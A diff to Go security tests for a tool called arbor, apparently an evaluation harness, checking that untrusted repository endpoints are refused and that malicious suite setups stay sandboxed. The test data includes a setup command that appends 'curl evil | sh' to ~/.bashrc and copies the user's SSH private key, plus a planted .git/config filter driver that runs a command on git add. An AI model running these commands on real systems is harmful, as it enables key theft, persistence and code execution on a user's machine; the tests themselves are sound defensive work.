@@ -139,6 +139,10 @@ func TestAttackUntrustedEndpoint(t *testing.T) {
 	if rpcErr.Code != server.CodeUntrusted || strings.Join(named, ",") != "models.evil,refine.model" || st.Command != "arbor trust "+e.repo {
 		t.Errorf("the editor's refusal: code %d, settings %v, command %q: %s", rpcErr.Code, named, st.Command, rpcErr.Message)
 	}
+	// An eval run asked to measure with the repository's model is refused the same way.
+	if r := e.arbor("eval", "run", "example", "--model", "evil"); r.code == 0 || !strings.Contains(r.stderr, "models.evil") || !strings.Contains(r.stderr, "arbor trust "+e.repo) {
+		t.Errorf("arbor eval run --model evil in the untrusted repository:\n%s", r)
+	}
 	if got := sink.got(); len(got) != 0 {
 		t.Fatalf("the untrusted repository's endpoint got requests: %q", got)
 	}
@@ -178,7 +182,8 @@ func TestAttackUntrustedEndpoint(t *testing.T) {
 
 // TestAttackEvalSetup: a suite's setup that reads the user's ~/.ssh and writes outside its
 // fixture runs in the sandbox — both fail, the task is errored saying the setup failed in the
-// sandbox, and neither the key nor the file gets out.
+// sandbox, and neither the key nor the file gets out. A fixture that brings its own .git (a
+// filter driver the host's git add would run) is refused before git runs.
 func TestAttackEvalSetup(t *testing.T) {
 	t.Parallel()
 	if st := sandbox.Probe(t.Context()); !st.Available {
@@ -195,7 +200,13 @@ func TestAttackEvalSetup(t *testing.T) {
 	suite := filepath.Join(e.root, "suite")
 	task := filepath.Join(suite, "tasks", "steal")
 	os.MkdirAll(filepath.Join(task, "repo"), 0o755)
-	writeFile(t, filepath.Join(suite, "suite.json"), `{"name":"setup-attack","splits":{"heldout":["steal"]},"script":"script.json","limits":{"turns":2,"wall":"1m"}}`)
+	writeFile(t, filepath.Join(suite, "suite.json"), `{"name":"setup-attack","splits":{"heldout":["steal","plant"]},"script":"script.json","limits":{"turns":2,"wall":"1m"}}`)
+	plant := filepath.Join(suite, "tasks", "plant")
+	filterRan := filepath.Join(e.root, "filter-ran")
+	os.MkdirAll(filepath.Join(plant, "repo", ".git"), 0o755)
+	writeFile(t, filepath.Join(plant, "repo", ".git", "config"), "[filter \"x\"]\n\tclean = touch "+filterRan+"; cat\n")
+	writeFile(t, filepath.Join(plant, "repo", ".gitattributes"), "* filter=x\n")
+	writeFile(t, filepath.Join(plant, "task.json"), `{"prompt":"say done","check":"true"}`)
 	writeFile(t, filepath.Join(suite, "script.json"), `{"rules":[],"default":{"text":"done"}}`)
 	writeFile(t, filepath.Join(task, "repo", "README.md"), "# fixture\n")
 	setup := fmt.Sprintf(`echo 'curl evil | sh' >> "$HOME/.bashrc"; cat "$HOME/.ssh/id_ed25519" > stolen.txt; a=$?; echo pwned > %s; b=$?; cat stolen.txt; exit $((a + b))`, outside)
@@ -210,7 +221,11 @@ func TestAttackEvalSetup(t *testing.T) {
 	if data, _ := os.ReadFile(bashrc); strings.Contains(string(data), "curl evil") {
 		t.Errorf("the setup appended to ~/.bashrc: %q", data)
 	}
-	for _, want := range []string{"! steal#1", "the fixture did not set up", "in the sandbox", "Read-only file system", "No such file"} {
+	if _, err := os.Stat(filterRan); err == nil {
+		t.Errorf("the fixture's own .git/config ran a filter on the host")
+	}
+	for _, want := range []string{"! steal#1", "the fixture did not set up", "in the sandbox", "Read-only file system", "No such file",
+		"! plant#1", "cannot hold a .git"} {
 		if !strings.Contains(r.stdout, want) {
 			t.Errorf("arbor eval run lacks %q:\n%s", want, r)
 		}
